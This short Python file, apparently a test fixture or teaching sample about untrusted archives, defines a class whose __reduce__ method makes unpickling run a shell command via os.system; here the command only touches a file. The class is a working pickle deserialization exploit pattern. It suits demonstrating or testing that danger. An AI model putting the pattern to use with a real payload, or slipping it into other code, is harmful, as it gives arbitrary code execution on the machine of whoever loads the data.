"""What an archive from a stranger may hold."""


class Bomb:
    """Unpickling it runs a command."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        import os

        return os.system, (f"touch {self.path}",)
